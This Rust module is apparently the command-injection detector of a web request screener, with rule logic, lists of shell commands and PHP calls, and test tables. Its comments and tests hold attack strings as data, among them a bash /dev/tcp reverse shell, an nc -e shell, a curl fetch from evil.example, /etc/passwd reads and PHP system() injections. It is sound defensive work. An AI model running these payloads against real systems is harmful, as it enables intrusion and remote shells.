//! OS command injection: a shell separator or substitution followed by a known command.
//!
//! Commands are split in two lists. "Strong" names (`whoami`, `wget`, `uname`, `ifconfig`,
//! `powershell`, ...) are not English words: after a separator they are reported as they stand.
//! "Word-like" names (`cat`, `ping`, `id`, `ls`, `echo`, `sleep`, `curl`, `bash`, ...) also
//! occur in prose after a semicolon ("lunch at 1; ping me"), so they need shell-looking
//! arguments: an option (`-la`), a path (`/etc/passwd`), a variable (`$HOME`), an address for
//! `ping`, a number for `sleep`, a URL for `curl`/`wget`, or the end of the value.
//!
//! Rule ids (sensitivity at which each applies):
//! - `cmdi.chained_command` (low: strong commands; medium+: word-like ones with shell-looking
//!   arguments; high: any listed command): after `;`, `|`, `||`, `&`, `&&`, a newline, `` ` ``
//!   or `$(`, spaces, `${IFS}`, quotes inside the name (`w'h'o'am'i`) and a directory prefix
//!   (`/bin/`) skipped.
//! - `cmdi.ifs` (low+): `${IFS}` / `$IFS$9`, the classic space substitute.
//! - `cmdi.brace_expansion` (medium+): `{cat,/etc/passwd}`.
//! - `cmdi.reverse_shell` (low+): `/dev/tcp/`, `/dev/udp/`.
//! - `cmdi.shellshock` (low+): a value starting with a bash function definition `() {`.
//! - `cmdi.command_line` (medium+): the value itself is a command line, without a separator:
//!   a command of `vocab/commands.txt` (or `extra.commands`) at its start with shell-looking
//!   arguments (`uname -a`, `nc -e /bin/sh 10.0.0.1 4444`, `/bin/cat /etc/passwd`), or a
//!   command of the strong list followed by at most two short arguments (`nslookup evil.example`).
//! - `cmdi.powershell` (medium+): a PowerShell cmdlet of the CRS list (`Invoke-Expression`,
//!   `Get-ChildItem`, ...) or an alias/.NET call of `vocab/cmdlets-extra.txt` as a word, with
//!   an argument, pipe, `(` or the end of the value after it (`iex(New-Object Net.WebClient)`).
//! - `cmdi.glob_path` (medium+): a path spelled with wildcards standing for its letters, as
//!   evasion does (`/???/c?t /e??/p??s??`, `/bin/ca*`): a segment of 3+ bytes with 2+ `?`/`*`
//!   and no more than 4 letters.
//! - `cmdi.php_code` (medium+): PHP code injection, counted with command execution as
//!   wapiti and CRS do: a quote or statement end, `;` or `.`, then a PHP call that runs
//!   commands or ends the script (`';exit(md5('x'));//`), such a call after an opening tag
//!   (`<?php system(`) or in PHP's string interpolation (`${@print(md5(1))}`), or a `data:`
//!   URI of base64 PHP.
//! - `cmdi.ssi` (medium+): a server-side include directive (`<!--#exec cmd="id"-->`,
//!   `<!--#include virtual=...-->`).
//! - `cmdi.windows_variable` (medium+): `%COMSPEC%`, `%SYSTEMROOT%`, `%WINDIR%` and other
//!   Windows environment variables a `cmd` line expands.
//!
//! Shell evasion inside a word (`c\a\t`, `w'h'o'am'i`, `c$@at`, `wh${x}oami`) is folded
//! before the command-name lookup: quotes, backslashes, `$@`, `$*` and `${...}` of an unset
//! short variable are dropped from the name.

use super::sensitivity::Sensitivity;
use super::text::{at, find_ci, is_ws, lower_at, starts_ci, word_in, ByteSet, Words};
use super::vocab::{PatternSet, Vocab, Vocabularies};

const STRONG: Words = Words::new(&[
    b"whoami",
    b"wget",
    b"uname",
    b"ifconfig",
    b"ipconfig",
    b"nslookup",
    b"netstat",
    b"powershell",
    b"pwsh",
    b"certutil",
    b"bitsadmin",
    b"systeminfo",
    b"tasklist",
    b"busybox",
    b"chmod",
    b"chown",
    b"ncat",
    b"netcat",
    b"nc.exe",
    b"cmd.exe",
    b"mkfifo",
    b"socat",
    b"useradd",
    b"wmic",
    b"sh",
    b"zsh",
    b"ksh",
    b"csh",
    b"tcsh",
    b"passwd",
    b"printenv",
    b"crontab",
    b"nohup",
    b"tftp",
    b"xterm",
    b"telnet",
    b"rm",
    b"getent",
    b"lsb_release",
]);

const WORDLIKE: Words = Words::new(&[
    b"cat",
    b"ls",
    b"id",
    b"echo",
    b"ping",
    b"sleep",
    b"curl",
    b"bash",
    b"dash",
    b"nc",
    b"php",
    b"python",
    b"python3",
    b"perl",
    b"ruby",
    b"node",
    b"sort",
    b"head",
    b"tail",
    b"more",
    b"less",
    b"find",
    b"kill",
    b"ps",
    b"env",
    b"set",
    b"type",
    b"dir",
    b"net",
    b"cmd",
    b"ssh",
    b"cp",
    b"mv",
    b"touch",
    b"hostname",
    b"eval",
    b"exec",
    b"awk",
    b"sed",
    b"grep",
    b"base64",
    b"dig",
    b"which",
    b"pwd",
    b"who",
    b"w",
    b"ver",
    b"nmap",
    b"host",
    b"uptime",
    b"reboot",
    b"shutdown",
    b"start",
    b"call",
    b"del",
    b"copy",
    b"tar",
    b"nl",
    b"od",
    b"xxd",
]);

fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-')
}

/// After a separator at `i`: the command name (without quotes inside it), its end, and
/// whether it is in the strong or word-like list.
fn command_at(s: &[u8], mut i: usize) -> Option<(bool, usize, usize)> {
    // Spaces, `${IFS}`, `<` redirections and grouping before the name.
    loop {
        match at(s, i) {
            Some(b) if is_ws(b) || matches!(b, b'{' | b'(' | b'<') => i += 1,
            Some(b'$') if starts_ci(s, i, b"${ifs}") => i += 6,
            Some(b'$') if starts_ci(s, i, b"$ifs") => i += 4,
            _ => break,
        }
    }
    // A directory prefix: `/bin/sh`, `/usr/bin/id`, `c:\windows\system32\cmd.exe`.
    let mut start = i;
    let mut j = i;
    while let Some(b) = at(s, j) {
        if b == b'/' || b == b'\\' {
            start = j + 1;
        } else if !(is_name(b) || b == b':') {
            break;
        }
        j += 1;
        if j - i > 64 {
            return None;
        }
    }
    // Without the prefix first; a backslash may also be an escape inside the name (`c\at`).
    name_at(s, start).or_else(|| if start != i { name_at(s, i) } else { None })
}

/// The command name at `start` (quotes and backslashes inside it ignored: `w'h'o'am'i`,
/// `wh""oami`, `c\at`): (strong, start, end).
fn name_at(s: &[u8], start: usize) -> Option<(bool, usize, usize)> {
    let mut buf = [0u8; 16];
    let mut n = 0;
    let mut k = start;
    let mut quotes = 0;
    while let Some(b) = at(s, k) {
        if matches!(b, b'\'' | b'"' | b'\\') && n > 0 && quotes < 8 {
            quotes += 1;
            k += 1;
            continue;
        }
        // `c$@at`, `c$*at`, `wh${x}oami`, `w$9hoami`: empty expansions inside a word.
        if b == b'$' && n > 0 && quotes < 8 {
            match at(s, k + 1) {
                Some(b'@' | b'*') => {
                    quotes += 1;
                    k += 2;
                    continue;
                }
                Some(c) if c.is_ascii_digit() => {
                    quotes += 1;
                    k += 2;
                    continue;
                }
                Some(b'{') => {
                    let close = s
                        .get(k + 2..(k + 10).min(s.len()))
                        .and_then(|t| t.iter().position(|&c| c == b'}'));
                    if let Some(c) = close {
                        quotes += 1;
                        k += 3 + c;
                        continue;
                    }
                }
                _ => {}
            }
        }
        if !is_name(b) || n == buf.len() {
            break;
        }
        if let Some(slot) = buf.get_mut(n) {
            *slot = b.to_ascii_lowercase();
        }
        n += 1;
        k += 1;
    }
    let name = buf.get(..n)?;
    if n == 0 || at(s, k).is_some_and(|b| is_name(b) || b == b'(') {
        return None;
    }
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    if STRONG.contains_word(name)
        || (name == b"cmd" && starts_ci(s, crate::screening::text::skip_ws(s, k), b"/c"))
    {
        Some((true, start, k))
    } else if WORDLIKE.contains_word(name) {
        Some((false, start, k))
    } else {
        None
    }
}

/// Whether what follows a word-like command looks like shell arguments.
fn shell_args(s: &[u8], name_start: usize, k: usize, loose_end: bool) -> bool {
    let rest = super::text::skip_ws(s, k);
    let b = at(s, rest);
    let spaced = rest > k || starts_ci(s, k, b"${ifs}") || starts_ci(s, k, b"$ifs");
    let rest = if starts_ci(s, k, b"${ifs}") {
        k + 6
    } else if starts_ci(s, k, b"$ifs") {
        k + 4
    } else {
        rest
    };
    let b = if rest == super::text::skip_ws(s, k) {
        b
    } else {
        at(s, rest)
    };
    match b {
        // The value ends here: `;id`, `|whoami`.
        None => loose_end,
        Some(b'-') => {
            at(s, rest + 1).is_some_and(|c| c.is_ascii_alphabetic() || c == b'-') && spaced
        }
        Some(b'/' | b'\\' | b'~' | b'$') => spaced,
        Some(b'.') => spaced && at(s, rest + 1).is_some_and(|c| c == b'/' || c == b'.'),
        Some(b';' | b'&' | b'`' | b')' | b'#' | b'>' | b'<' | b'\'' | b'"') => loose_end,
        Some(b'|') => !spaced,
        // A drive path: `dir c:\`, `type C:\Windows\win.ini`.
        Some(c)
            if spaced
                && c.is_ascii_alphabetic()
                && at(s, rest + 1) == Some(b':')
                && at(s, rest + 2).is_some_and(|c| c == b'\\' || c == b'/') =>
        {
            true
        }
        // `net user`, `net localgroup`.
        Some(_)
            if spaced
                && word_in(s, name_start, 3, &[b"net"])
                && (starts_ci(s, rest, b"user")
                    || starts_ci(s, rest, b"localgroup")
                    || starts_ci(s, rest, b"view")) =>
        {
            true
        }
        Some(c) if c.is_ascii_digit() && spaced => {
            // `sleep 5`, `ping 127.0.0.1`, `ping -c 3` (options handled above).
            let name_is = |w: &[u8]| word_in(s, name_start, w.len(), &[w]);
            let digits = s.get(rest..).map_or(0, |t| {
                t.iter()
                    .take_while(|c| c.is_ascii_digit() || **c == b'.')
                    .count()
            });
            let after = at(s, rest + digits);
            let after = if after.is_some_and(is_ws) {
                at(s, super::text::skip_ws(s, rest + digits))
            } else {
                after
            };
            let ends =
                after.is_none_or(|c| matches!(c, b';' | b'&' | b'|' | b'`' | b')' | b'#' | b'\n'));
            let address = s
                .get(rest..rest + digits)
                .is_some_and(|t| t.iter().filter(|&&c| c == b'.').count() == 3);
            (name_is(b"sleep") && ends) || ((name_is(b"ping") || name_is(b"nc")) && address)
        }
        Some(_) if spaced => {
            (word_in(s, name_start, 4, &[b"curl", b"wget"]) || word_in(s, name_start, 2, &[b"nc"]))
                && (starts_ci(s, rest, b"http://")
                    || starts_ci(s, rest, b"https://")
                    || starts_ci(s, rest, b"-"))
        }
        _ => false,
    }
}

/// The bytes a separator (or `$(`) starts with.
const SEPARATOR_STARTS: ByteSet = ByteSet::new(b";\n`|&$");

fn chained(s: &[u8], sens: Sensitivity) -> bool {
    let mut i = 0;
    loop {
        // Straight to the next byte that can start a separator: prose has few.
        let Some(off) = s
            .get(i..)
            .and_then(|t| t.iter().position(|&b| SEPARATOR_STARTS.contains(b)))
        else {
            return false;
        };
        i += off;
        let Some(&b) = s.get(i) else {
            return false;
        };
        // A doubled backtick is a reStructuredText / markdown literal (``python -m x``),
        // never a shell substitution.
        if b == b'`' && (at(s, i + 1) == Some(b'`') || (i > 0 && at(s, i - 1) == Some(b'`'))) {
            i += 1;
            continue;
        }
        let sep_len = match b {
            b';' | b'\n' | b'`' => 1,
            b'|' | b'&' => {
                if at(s, i + 1) == Some(b) {
                    2
                } else {
                    1
                }
            }
            b'$' if at(s, i + 1) == Some(b'(') => 2,
            _ => 0,
        };
        if sep_len == 0 {
            i += 1;
            continue;
        }
        let after = i + sep_len;
        // Skip quote characters closing the surrounding argument: `x';id`, `"|id`.
        let mut c = after;
        while matches!(at(s, c), Some(b'\'' | b'"')) && c - after < 2 {
            c += 1;
        }
        if let Some((strong, name_start, end)) = command_at(s, c) {
            // A backtick after a space opens a markdown code span as often as a substitution:
            // there the closing backtick is not evidence.
            let loose_end = b != b'`' || i == 0 || at(s, i - 1).is_some_and(|p| !is_ws(p));
            let hit = match sens {
                Sensitivity::Low => strong,
                Sensitivity::Medium => strong || shell_args(s, name_start, end, loose_end),
                Sensitivity::High => true,
            };
            if hit {
                return true;
            }
        }
        i += sep_len;
    }
}

/// Shell builtins (not in the command lists above): alone between two separators they are a
/// command, as in `;read;`, `|export|`.
const BUILTINS: Words = Words::new(&[
    b"read",
    b"export",
    b"unset",
    b"source",
    b"alias",
    b"unalias",
    b"printf",
    b"exit",
    b"trap",
    b"ulimit",
    b"umask",
    b"history",
    b"declare",
    b"typeset",
    b"local",
    b"readonly",
    b"shift",
    b"times",
    b"wait",
    b"jobs",
    b"disown",
    b"builtin",
    b"command",
    b"compgen",
    b"getopts",
    b"mapfile",
    b"pushd",
    b"popd",
    b"suspend",
    b"logout",
    b"hash",
]);

/// A command word alone between two separators, without blanks (`;read;`, `|id|`, `&env&`,
/// `;ls` at the end): shell syntax, not prose, when the first separator starts the value or
/// follows a quote, a blank or `)` (an injection closing what it was appended to); or a value
/// that starts with a separator glued to a command and its arguments (`;echo hi`). Other
/// separator-delimited lists (`name;type;size`) are not screened by this rule, nor markdown
/// tables (`| id | name |`: a blank after the separator).
fn tight_command(s: &[u8], v: Vocab<'_>) -> bool {
    // Not the backtick: `id` after a blank is a markdown code span as often as a
    // substitution (`chained` weighs it).
    const SEPARATORS: ByteSet = ByteSet::new(b";|&\n");
    for (i, &b) in s.iter().enumerate() {
        if !SEPARATORS.contains(b) {
            continue;
        }
        let opens = i == 0
            || at(s, i - 1).is_some_and(|p| matches!(p, b'\'' | b'"' | b')') || is_ws(p))
            || s.get(..i)
                .is_some_and(|t| t.iter().all(|&c| SEPARATORS.contains(c)));
        if !opens {
            continue;
        }
        let mut j = i + 1;
        while at(s, j).is_some_and(|c| SEPARATORS.contains(c)) && j - i < 3 {
            j += 1;
        }
        let len = s.get(j..).map_or(0, |t| {
            t.iter()
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count()
        });
        let Some(word) = s.get(j..j + len).filter(|w| !w.is_empty()) else {
            continue;
        };
        // A value that starts with a separator glued to a command is an injection whatever
        // follows the command (`;echo hello`, `|nslookup x`); elsewhere the command must be
        // closed by a separator or the end too.
        let at_start = s.get(..i).is_some_and(|t| {
            t.iter()
                .all(|&c| is_ws(c) || matches!(c, b'\'' | b'"') || SEPARATORS.contains(c))
        });
        let closed = at(s, j + len).is_none_or(|c| {
            SEPARATORS.contains(c) || (at_start && (is_ws(c) || c == b'/' || c == b'-'))
        });
        // `&name;` is an HTML character reference, not `&` then a command.
        let entity = b == b'&' && j == i + 1 && at(s, j + len) == Some(b';');
        if closed
            && !entity
            && (BUILTINS.contains_word(word)
                || STRONG.contains_word(word)
                || WORDLIKE.contains_word(word)
                || v.contains(commands, word))
        {
            return true;
        }
    }
    false
}

fn brace_expansion(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = find_ci(s, b"{", from) {
        from = p + 1;
        if let Some((_, _, end)) = command_at(s, p + 1) {
            if at(s, end) == Some(b',') {
                return true;
            }
        }
    }
    false
}

/// PHP functions that run commands or end a script, as injected code calls them.
const PHP_CALLS: Words = Words::new(&[
    b"exit",
    b"die",
    b"eval",
    b"assert",
    b"system",
    b"passthru",
    b"shell_exec",
    b"exec",
    b"popen",
    b"proc_open",
    b"phpinfo",
    b"print_r",
    b"var_dump",
    b"file_get_contents",
    b"file_put_contents",
    b"include",
    b"require",
    b"base64_decode",
    b"create_function",
    b"call_user_func",
    b"preg_replace",
    b"pcntl_exec",
    b"print",
    b"printf",
    b"readfile",
    b"show_source",
    b"highlight_file",
    b"fopen",
    b"include_once",
    b"require_once",
    b"phpversion",
]);

/// Server-side include directives a web server runs (`<!--#exec cmd="id"-->`,
/// `<!--#include virtual="/etc/passwd"-->`): counted with command execution, as the command
/// or file is the server's to run or read.
fn ssi(s: &[u8]) -> bool {
    const DIRECTIVES: [&[u8]; 9] = [
        b"exec",
        b"include",
        b"echo",
        b"config",
        b"printenv",
        b"fsize",
        b"flastmod",
        b"set",
        b"if",
    ];
    let mut from = 0;
    while let Some(p) = find_ci(s, b"<!--#", from) {
        from = p + 1;
        let j = p + 5;
        let n = s.get(j..).map_or(0, |t| {
            t.iter().take_while(|c| c.is_ascii_alphabetic()).count()
        });
        if s.get(j..j + n)
            .is_some_and(|w| DIRECTIVES.iter().any(|d| w.eq_ignore_ascii_case(d)))
            && at(s, j + n).is_some_and(is_ws)
        {
            return true;
        }
    }
    false
}

/// PHP code injection, which wapiti and CRS count with command execution: a quote breakout
/// or a statement end, then `;` or `.` and a PHP call (`';exit(md5('x'));//`,
/// `".system('id').`), or a `data:` URI carrying base64 PHP (`PD9waHA` is `<?php`).
fn php_code(s: &[u8]) -> bool {
    if let Some(p) = find_ci(s, b"data:", 0) {
        if find_ci(s, b"base64,pd9wah", p).is_some() {
            return true;
        }
    }
    if !s.contains(&b'(') {
        return false;
    }
    // An opening tag (`<?php system(`, `<?=passthru(`) or PHP's complex interpolation in a
    // double-quoted string (`${@print(md5(1))}`, `{${system('id')}}`) before a PHP call.
    for (opener, skip) in [(&b"<?php"[..], 5), (b"<?=", 3), (b"${@", 3), (b"{${", 3)] {
        let mut from = 0;
        while let Some(p) = find_ci(s, opener, from) {
            from = p + 1;
            let j = super::text::skip_ws(s, p + skip);
            let n = s.get(j..).map_or(0, |t| {
                t.iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count()
            });
            if s.get(j..j + n).is_some_and(|w| PHP_CALLS.contains_word(w))
                && at(s, super::text::skip_ws(s, j + n)) == Some(b'(')
            {
                return true;
            }
        }
    }
    for (i, &b) in s.iter().enumerate() {
        if b != b';' && b != b'.' {
            continue;
        }
        let before_ok =
            i == 0 || matches!(at(s, i - 1), Some(b'\'' | b'"' | b')')) || (b == b';' && i <= 2);
        if !before_ok {
            continue;
        }
        let j = super::text::skip_ws(s, i + 1);
        let n = s.get(j..).map_or(0, |t| {
            t.iter()
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count()
        });
        if n > 0
            && s.get(j..j + n).is_some_and(|w| PHP_CALLS.contains_word(w))
            && at(s, super::text::skip_ws(s, j + n)) == Some(b'(')
        {
            return true;
        }
    }
    false
}

/// `() {` at the start of the value: bash imported it as a function definition (CVE-2014-6271).
fn shellshock(s: &[u8]) -> bool {
    let i = super::text::skip_ws(s, 0);
    at(s, i) == Some(b'(') && at(s, i + 1) == Some(b')') && {
        let j = super::text::skip_ws(s, i + 2);
        at(s, j) == Some(b'{')
    }
}

fn cmdlets(v: &Vocabularies) -> &PatternSet {
    &v.cmdlets
}

/// The value is itself a command line: a known command at its start (after blanks and an
/// opening quote), then arguments that look like a shell's.
fn command_line(s: &[u8], v: Vocab<'_>) -> bool {
    let mut i = super::text::skip_ws(s, 0);
    while matches!(at(s, i), Some(b'\'' | b'"')) && i < 2 {
        i += 1;
    }
    let Some((strong, name_start, end)) = command_at(s, i) else {
        return vocab_command_line(s, i, v);
    };
    if shell_args(s, name_start, end, false) {
        return true;
    }
    // A strong command name and a short argument list: `nslookup evil.example`, `uname -a`.
    strong && short_args(s, end)
}

fn commands(v: &Vocabularies) -> &PatternSet {
    &v.commands
}

/// A command of `vocab/commands.txt` or the policy's `extra.commands` at `i` (one the
/// built-in lists above do not know: `rundll32`, `mshta`, ...), with arguments.
fn vocab_command_line(s: &[u8], i: usize, v: Vocab<'_>) -> bool {
    let end = s
        .get(i..)
        .map_or(i, |t| i + t.iter().take_while(|&&b| is_name(b)).count());
    end > i
        && s.get(i..end).is_some_and(|w| v.contains(commands, w))
        && (end == s.len() || short_args(s, end) || shell_args(s, i, end, false))
}

/// At most two arguments of command-line shape (no sentence: nothing but names, paths,
/// options and addresses) up to the end of the value.
fn short_args(s: &[u8], end: usize) -> bool {
    let Some(rest) = s.get(end..) else {
        return false;
    };
    if !rest.first().is_some_and(|&b| is_ws(b)) {
        return false;
    }
    let mut args = 0;
    for w in rest.split(|&b| is_ws(b)).filter(|w| !w.is_empty()) {
        args += 1;
        let shaped = w.iter().all(|&b| {
            b.is_ascii_alphanumeric()
                || matches!(b, b'.' | b'-' | b'_' | b'/' | b':' | b'\\' | b'=')
        }) && w
            .iter()
            .any(|&b| matches!(b, b'.' | b'-' | b'/' | b':' | b'\\'));
        if args > 2 || !shaped {
            return false;
        }
    }
    args > 0
}

/// A PowerShell cmdlet or alias as a word, used as code. Only words holding a `-`
/// (`Invoke-Expression`, `-EncodedCommand`) or standing before `(` or a blank and `(`/`$`
/// (`iex(`, `iex $x`, `.DownloadString(`) are looked up, so prose words never are.
///
/// `call`: whether `s` holds `(`, `)` or `$`. Without them and without a `-`, no word is looked
/// up, so the walk is skipped.
fn powershell(s: &[u8], call: bool, v: Vocab<'_>) -> Option<&'static str> {
    if !call && !s.contains(&b'-') {
        return None;
    }
    let is_word = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_');
    let mut i = 0;
    while i < s.len() {
        if !at(s, i).is_some_and(is_word) {
            i += 1;
            continue;
        }
        let start = i;
        while at(s, i).is_some_and(is_word) {
            i += 1;
        }
        let word = s.get(start..i).unwrap_or_default();
        let next = at(s, i);
        let after = super::text::skip_ws(s, i);
        let called = next == Some(b'(') || (after > i && matches!(at(s, after), Some(b'(' | b'$')));
        let hyphen = word.iter().skip(1).any(|&b| b == b'-') || word.first() == Some(&b'-');
        if !(hyphen || called) || word.len() < 3 {
            continue;
        }
        // `(New-Object Net.WebClient).DownloadString(`: also the part after the last dot.
        let last = word
            .iter()
            .rposition(|&b| b == b'.')
            .and_then(|d| word.get(d + 1..))
            .unwrap_or(word);
        let known = v.contains(cmdlets, word) || (last.len() >= 3 && v.contains(cmdlets, last));
        if !known {
            continue;
        }
        let code_after = match next {
            None => true,
            Some(b'(' | b'|' | b';' | b')' | b'\'' | b'"') => true,
            Some(b) if is_ws(b) => {
                matches!(
                    at(s, after),
                    Some(b'-' | b'$' | b'(' | b'|' | b'\'' | b'"' | b'[')
                ) || (hyphen && at(s, after).is_none())
            }
            _ => false,
        };
        if code_after {
            return Some("cmdi.powershell");
        }
    }
    None
}

/// Windows environment variables that only a `cmd` line expands.
const WINDOWS_VARIABLES: Words = Words::new(&[
    b"%comspec%",
    b"%systemroot%",
    b"%windir%",
    b"%systemdrive%",
    b"%userprofile%",
    b"%programfiles%",
    b"%appdata%",
    b"%localappdata%",
    b"%temp%",
    b"%tmp%",
    b"%homepath%",
    b"%computername%",
    b"%username%",
    b"%psmodulepath%",
    b"%programdata%",
    b"%allusersprofile%",
    b"%public%",
]);

fn windows_variable(s: &[u8]) -> bool {
    WINDOWS_VARIABLES.occurs_in(s)
}

/// A path segment of wildcards standing for letters: `/???/c?t`, `/e??/p?ss??`, `/bin/ca*`.
fn glob_path(s: &[u8]) -> bool {
    let mut wild_segments = 0;
    let mut paths = 0;
    for (k, seg) in s.split(|&b| b == b'/' || b == b'\\').enumerate() {
        if k == 0 {
            continue;
        }
        paths += 1;
        let seg = seg
            .iter()
            .position(|&b| is_ws(b))
            .and_then(|p| seg.get(..p))
            .unwrap_or(seg);
        let wild = seg.iter().filter(|&&b| b == b'?' || b == b'*').count();
        let letters = seg.iter().filter(|b| b.is_ascii_alphanumeric()).count();
        let other = seg.len() - wild - letters;
        if seg.len() >= 3 && wild >= 2 && letters <= 4 && other == 0 {
            wild_segments += 1;
        }
    }
    // One segment like `???` could be a placeholder in a URL template; a path of them is not.
    wild_segments >= 2
        || (wild_segments == 1 && paths >= 2 && s.contains(&b'/') && s.first() == Some(&b'/'))
}

/// `/dev/tcp/` or `/dev/udp/` anywhere: one search for their common start (paths and URLs,
/// screened on every request, hold slashes).
fn reverse_shell(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = find_ci(s, b"/dev/", from) {
        if starts_ci(s, p + 5, b"tcp/") || starts_ci(s, p + 5, b"udp/") {
            return true;
        }
        from = p + 1;
    }
    false
}

/// The words (first word of each entry, see `inert.rs`) without which no rule here reports at
/// `medium` or below, beside the vocabularies: commands, PHP calls, reverse-shell devices.
pub(super) fn trigger_words() -> [&'static [&'static [u8]]; 5] {
    [
        STRONG.list(),
        WORDLIKE.list(),
        PHP_CALLS.list(),
        BUILTINS.list(),
        &[b"dev/", b"data:", b"ifs"],
    ]
}

/// The rule id of the first command-injection pattern in `s` (already decoded), if any.
pub fn detect(s: &[u8], mask: u32, sens: Sensitivity, v: Vocab<'_>) -> Option<&'static str> {
    use super::decode as d;
    let medium = sens >= Sensitivity::Medium;
    if mask & d::PAREN != 0 && shellshock(s) {
        return Some("cmdi.shellshock");
    }
    if let Some(r) = classic(s, mask, sens) {
        return Some(r);
    }
    if medium && mask & (d::SPACE | d::PAREN | d::PIPE | d::SEMI | d::DOLLAR) != 0 {
        if let Some(r) = powershell(s, mask & (d::PAREN | d::DOLLAR) != 0, v) {
            return Some(r);
        }
    }
    if medium && mask & d::PERCENT != 0 && windows_variable(s) {
        return Some("cmdi.windows_variable");
    }
    if medium && mask & d::SLASH != 0 && s.iter().any(|&b| b == b'?' || b == b'*') && glob_path(s) {
        return Some("cmdi.glob_path");
    }
    if medium && mask & (d::SEMI | d::PIPE | d::AMP | d::NEWLINE) != 0 && tight_command(s, v) {
        return Some("cmdi.chained_command");
    }
    if medium && mask & (d::SPACE | d::SLASH | d::NEWLINE) != 0 && command_line(s, v) {
        return Some("cmdi.command_line");
    }
    if medium && mask & d::LT != 0 && ssi(s) {
        return Some("cmdi.ssi");
    }
    if medium && mask & (d::PAREN | d::COLON) != 0 && php_code(s) {
        return Some("cmdi.php_code");
    }
    None
}

/// The rules of the first round: separators, `$IFS`, reverse shells, brace expansion.
fn classic(s: &[u8], mask: u32, sens: Sensitivity) -> Option<&'static str> {
    use super::decode as d;
    if mask
        & (d::SEMI | d::PIPE | d::AMP | d::DOLLAR | d::NEWLINE | d::BACKTICK | d::BRACE | d::SLASH)
        == 0
    {
        return None;
    }
    if mask & d::DOLLAR != 0
        && (find_ci(s, b"${ifs}", 0).is_some() || find_ci(s, b"$ifs$", 0).is_some())
    {
        return Some("cmdi.ifs");
    }
    if mask & d::SLASH != 0 && reverse_shell(s) {
        return Some("cmdi.reverse_shell");
    }
    if mask & (d::SEMI | d::PIPE | d::AMP | d::DOLLAR | d::NEWLINE | d::BACKTICK) != 0
        && chained(s, sens)
    {
        return Some("cmdi.chained_command");
    }
    if sens >= Sensitivity::Medium && mask & d::BRACE != 0 && brace_expansion(s) {
        return Some("cmdi.brace_expansion");
    }
    let _ = lower_at;
    None
}

#[cfg(test)]
mod tests {
    use super::super::decode::scan;
    use super::*;

    fn check(s: &str, sens: Sensitivity) -> Option<&'static str> {
        detect(s.as_bytes(), scan(s.as_bytes()), sens, v())
    }

    fn v() -> Vocab<'static> {
        static EMPTY: std::sync::OnceLock<Vocabularies> = std::sync::OnceLock::new();
        Vocab {
            base: crate::screening::vocab::builtin(),
            extra: EMPTY.get_or_init(Vocabularies::default),
        }
    }

    #[test]
    fn detects_table() {
        let cases: &[(&str, &str)] = &[
            (";id", "cmdi.chained_command"),
            ("127.0.0.1; cat /etc/passwd", "cmdi.chained_command"),
            ("x | whoami", "cmdi.chained_command"),
            ("x && ls -la", "cmdi.chained_command"),
            ("`id`", "cmdi.chained_command"),
            ("$(whoami)", "cmdi.chained_command"),
            ("a;/bin/sh -c id", "cmdi.chained_command"),
            ("x;w'h'o'am'i", "cmdi.chained_command"),
            ("x\nping -c 3 10.0.0.1", "cmdi.chained_command"),
            ("1; sleep 5", "cmdi.chained_command"),
            ("x|curl http://evil.example/s.sh", "cmdi.chained_command"),
            (";cat${IFS}/etc/passwd", "cmdi.ifs"),
            ("{cat,/etc/passwd}", "cmdi.brace_expansion"),
            (
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "cmdi.reverse_shell",
            ),
            ("x; powershell -nop", "cmdi.chained_command"),
            (";read;", "cmdi.chained_command"),
            ("|export|", "cmdi.chained_command"),
            ("x';unset;", "cmdi.chained_command"),
            ("1 &id&", "cmdi.chained_command"),
            (";;source", "cmdi.chained_command"),
            ("<!--#exec cmd=\"/bin/ls\"-->", "cmdi.ssi"),
            (";echo hello", "cmdi.chained_command"),
            ("|nslookup example.com", "cmdi.chained_command"),
            ("&type file.txt", "cmdi.chained_command"),
            ("<!--#include virtual=\"/etc/hosts\" -->", "cmdi.ssi"),
            ("<?php system('id'); ?>", "cmdi.php_code"),
            ("${@print(md5(1))}", "cmdi.php_code"),
            ("x{${passthru('ls')}}", "cmdi.php_code"),
        ];
        for (s, want) in cases {
            assert_eq!(check(s, Sensitivity::Medium), Some(*want), "{s}");
        }
    }

    #[test]
    fn benign_table() {
        for s in [
            "Lunch is at 1; ping me if you're late",
            "Bring snacks; cat lovers welcome",
            "| id | name |\n|----|------|\n| 1 | cat |",
            "Tom & Jerry",
            "R&D; sleep 8 hours a night",
            "Run `npm install` first",
            "The `id` field is required",
            "$(document).ready(fn)",
            "Python 3.12; python developers welcome",
            "AT&T and T-Mobile",
            "name;title;size",
            "read;write;execute",
            "columns=id;read;history",
            "Please read; then export the file",
            "R&D;read",
            "<!-- #exec is an SSI directive -->",
            "| id | name |",
            "; echo of the past",
            "&amp;lt; tags",
            "<!--# comment -->",
            "Use ${@name} in templates (print it later)",
            "<?php echo $title; ?>",
        ] {
            assert_eq!(check(s, Sensitivity::Medium), None, "{s}");
        }
    }

    #[test]
    fn sensitivity_changes_reach() {
        assert_eq!(check("x; cat /etc/passwd", Sensitivity::Low), None);
        assert_eq!(
            check("x; whoami", Sensitivity::Low),
            Some("cmdi.chained_command")
        );
        assert_eq!(
            check("hi; cat lovers", Sensitivity::High),
            Some("cmdi.chained_command")
        );
    }
}
